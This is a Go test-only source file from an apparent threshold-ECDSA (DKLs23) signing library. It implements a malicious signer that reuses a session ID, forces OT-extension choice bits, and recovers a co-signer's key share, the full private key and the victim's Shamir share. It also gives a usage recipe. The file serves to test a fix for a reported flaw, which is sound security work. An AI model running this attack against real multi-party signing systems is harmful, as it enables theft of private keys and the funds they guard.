//go:build keymesh_adversary

package sign

import (
	"errors"
	"fmt"
	"io"

	"github.com/decred/dcrd/dcrec/secp256k1/v4"

	"github.com/keymesh/keymesh/internal/mpc/curve"
	"github.com/keymesh/keymesh/internal/mpc/dkls23"
	"github.com/keymesh/keymesh/internal/mpc/round"
	"github.com/keymesh/keymesh/internal/mpc/rvole"
)

// This file is the attacker's side of finding 1 of issue 12 ("session reuse
// gives one node the whole key"), for tests only: it exists only in builds
// with the keymesh_adversary tag.
//
// The attack: a malicious signer (the gateway) gets an honest co-signer i to
// run two signing sessions under one session ID (it sends the same
// invitation twice). In each, the attacker is Bob in the multiplication in
// which i is Alice with inputs (r_i, sk_i), and sets every OT-extension
// choice bit to 0 in the first session and to 1 in the second. Alice's
// replies ã, ã′ then satisfy ã_{j,1} + ã′_{j,1} = 2·sk_i (see
// rvole.TestingOnlyRecoverInput), where sk_i = λ_i·x_i + ζ_i is i's additive
// share of the key in that session; with two signers, sk_i plus the
// attacker's own additive share is the private key.
//
// Against a co-signer with fresh session IDs (round.Fresh), the two
// sessions run under different sid*, the pads do not cancel, and the same
// computation yields a scalar unrelated to sk_i: TestingOnlyCheckShare and
// the check of TestingOnlyRecoverKey's result against the public key fail.
//
// Use, over any transport (the sessions are ordinary *round.Session values
// that the caller drives like any other):
//
//	s0, c0, _ := sign.TestingOnlyEvilSession(myShare, signers, digest, nonce, victim, 0, rand.Reader)
//	// run s0 with the victim to the end (or at least until c0.Complete())
//	s1, c1, _ := sign.TestingOnlyEvilSession(myShare, signers, digest, nonce, victim, 1, rand.Reader)
//	// run s1 the same way, with the same invitation (same nonce)
//	skI, _ := sign.TestingOnlyExtractShare(c0, c1)
//	ok := sign.TestingOnlyCheckShare(c0, skI)         // skI·G = pk_i the victim broadcast in session 0
//	key, _ := sign.TestingOnlyRecoverKey(c0, c1)      // two signers only
//	ok = sign.TestingOnlyKeyMatches(myShare, key)     // key·G = the public key iff the attack worked
//	xI, _ := sign.TestingOnlyVictimShamirShare(c0, c1) // two signers only
//	ok = sign.TestingOnlyCheckShamirShare(myShare, victim, xI) // x_i·G = X_i
//
// round.TestingOnlySetFreshness(false) turns the honest parties' defence off
// in a test process, to show that the attack works without it.

// TestingOnlyCapture is what an evil session captured: the victim's reply
// as Alice, its broadcast public share, and the attacker's own additive
// share of that session. It is filled while the session runs; read it only
// once Complete reports true (for example once the session is done). It
// holds secrets of the attacker's own: never print it.
type TestingOnlyCapture struct {
	victim  round.PartyID
	choice  byte
	two     bool // exactly two signers
	signers []round.PartyID
	share   *dkls23.Share // the attacker's
	adv     *adversary
	sess    *round.Session
}

// Victim returns the peer the capture is of.
func (c *TestingOnlyCapture) Victim() round.PartyID { return c.victim }

// Choice returns the OT-extension choice bit the attacker used (0 or 1).
func (c *TestingOnlyCapture) Choice() byte { return c.choice }

// FreshID returns the session ID the protocol ran under (sid*), once known.
// With the victim's defence on, the two sessions of an attack have
// different ones.
func (c *TestingOnlyCapture) FreshID() (round.SessionID, bool) { return c.sess.FreshID() }

// Complete reports whether the victim's reply and public share have been
// captured (engine round 4 of the session has stored the victim's
// messages).
func (c *TestingOnlyCapture) Complete() bool { return c.adv.reply != nil && c.adv.victimPK != nil }

// TestingOnlyEvilSession returns a signing session for the attacker's own
// share that behaves exactly like NewSession's (same arguments, same
// messages, a signature at the end if the others are honest) except that,
// in the multiplication in which victim is Alice and the attacker is Bob,
// every OT-extension choice bit is choice (0 or 1) instead of random, and
// it captures the victim's reply. victim must be another signer. Run it to
// the end like any session; the capture is complete once the session has
// passed engine round 4 (the session then goes on and may output a
// signature).
func TestingOnlyEvilSession(share *dkls23.Share, signers []round.PartyID, digest, nonce []byte, victim round.PartyID, choice byte, rand io.Reader) (*round.Session, *TestingOnlyCapture, error) {
	if choice > 1 {
		return nil, nil, errors.New("sign: a choice bit is 0 or 1")
	}
	c, sid, err := newConfig(share, signers, digest, nonce, rand)
	if err != nil {
		return nil, nil, err
	}
	if victim == c.self || !contains(c.peers, victim) {
		return nil, nil, fmt.Errorf("sign: victim %v is not another signer", victim)
	}
	c.adv = &adversary{
		victim: victim,
		startBob: func(setup *rvole.BobSetup, sid []byte, beta *secp256k1.ModNScalar, rand io.Reader) (*rvole.BobMul, []byte, error) {
			return rvole.TestingOnlyStartWithChoices(setup, sid, beta, choice, rand)
		},
	}
	s, err := c.session(sid)
	if err != nil {
		return nil, nil, err
	}
	return s, &TestingOnlyCapture{victim: victim, choice: choice, two: len(c.signers) == 2, signers: c.signers, share: share, adv: c.adv, sess: s}, nil
}

// TestingOnlyExtractShare returns what the attack computes as the victim's
// additive share sk_i from two captures of the same victim, one with
// choice 0 and one with choice 1 (in either order): (ã_{0,1} + ã′_{0,1})/2
// over the victim's two replies. It is sk_i when the victim ran both
// sessions under the same sid* (its defence off, and the same invitation
// twice); otherwise it is an unrelated scalar, which TestingOnlyCheckShare
// rejects. The error reports only malformed or mismatched captures.
func TestingOnlyExtractShare(c0, c1 *TestingOnlyCapture) (*secp256k1.ModNScalar, error) {
	if c0 == nil || c1 == nil || !c0.Complete() || !c1.Complete() {
		return nil, errors.New("sign: incomplete capture")
	}
	if c0.victim != c1.victim {
		return nil, errors.New("sign: captures of different victims")
	}
	if c0.choice == c1.choice {
		return nil, errors.New("sign: captures with the same choice bits; one 0 and one 1 are needed")
	}
	if c0.choice == 1 {
		c0, c1 = c1, c0
	}
	// Alice's inputs are (r_i, sk_i): index 1 is sk_i.
	return rvole.TestingOnlyRecoverInput(c0.adv.reply, c1.adv.reply, 1)
}

// TestingOnlyCheckShare reports whether skI·G equals the public share pk_i =
// sk_i·G that the victim broadcast in c's session: true iff skI is the
// victim's additive share of that session (and so of both sessions of a
// successful attack, which share sid* and hence ζ_i).
func TestingOnlyCheckShare(c *TestingOnlyCapture, skI *secp256k1.ModNScalar) bool {
	if c == nil || c.adv.victimPK == nil || skI == nil {
		return false
	}
	var p secp256k1.JacobianPoint
	curve.ScalarBaseMult(skI, &p)
	return string(curve.EncodePoint(&p)) == string(c.adv.victimPK)
}

// TestingOnlyRecoverKey runs TestingOnlyExtractShare and adds the
// attacker's own additive share of c0's session: with exactly two signers
// that is sk = sk_attacker + sk_i, the private key of the share. Check the
// result with TestingOnlyKeyMatches (sk·G = the public key): it matches
// only if the attack worked.
func TestingOnlyRecoverKey(c0, c1 *TestingOnlyCapture) (*secp256k1.ModNScalar, error) {
	if c0 == nil || !c0.two {
		return nil, errors.New("sign: the key follows from the victim's share only with two signers")
	}
	skI, err := TestingOnlyExtractShare(c0, c1)
	if err != nil {
		return nil, err
	}
	return skI.Add(&c0.adv.ownSK), nil
}

// TestingOnlyVictimShamirShare turns the extracted additive share into the
// victim's long-term Shamir share x_i, with two signers: ζ_i = −ζ_a (the
// zero shares of two signers cancel) and the attacker knows ζ_a = sk_a −
// λ_a·x_a, so x_i = (sk_i + ζ_a)/λ_i. Check it with
// TestingOnlyCheckShamirShare: x_i·G must be the victim's public share X_i
// in the attacker's own share record.
func TestingOnlyVictimShamirShare(c0, c1 *TestingOnlyCapture) (*secp256k1.ModNScalar, error) {
	skI, err := TestingOnlyExtractShare(c0, c1)
	if err != nil {
		return nil, err
	}
	if !c0.two {
		return nil, errors.New("sign: the Shamir share follows from the additive one only with two signers")
	}
	la, err := dkls23.Lagrange(c0.signers, c0.share.Self())
	if err != nil {
		return nil, err
	}
	li, err := dkls23.Lagrange(c0.signers, c0.victim)
	if err != nil {
		return nil, err
	}
	xa := c0.share.SecretShare()
	defer xa.Zero()
	var zetaA secp256k1.ModNScalar
	zetaA.Mul2(la, xa).Negate().Add(&c0.adv.ownSK) // ζ_a = sk_a − λ_a·x_a
	li.InverseNonConst()
	return skI.Add(&zetaA).Mul(li), nil
}

// TestingOnlyCheckShamirShare reports whether x·G is the public share of
// party victim in share's record.
func TestingOnlyCheckShamirShare(share *dkls23.Share, victim round.PartyID, x *secp256k1.ModNScalar) bool {
	want, err := share.PublicShare(victim)
	if err != nil || x == nil {
		return false
	}
	var p secp256k1.JacobianPoint
	curve.ScalarBaseMult(x, &p)
	return dkls23.EqualPoints(&p, want)
}

// TestingOnlyKeyMatches reports whether sk·G is share's public key.
func TestingOnlyKeyMatches(share *dkls23.Share, sk *secp256k1.ModNScalar) bool {
	var p secp256k1.JacobianPoint
	curve.ScalarBaseMult(sk, &p)
	return dkls23.EqualPoints(&p, share.PublicKey())
}

func contains(ps []round.PartyID, p round.PartyID) bool {
	for _, q := range ps {
		if q == p {
			return true
		}
	}
	return false
}
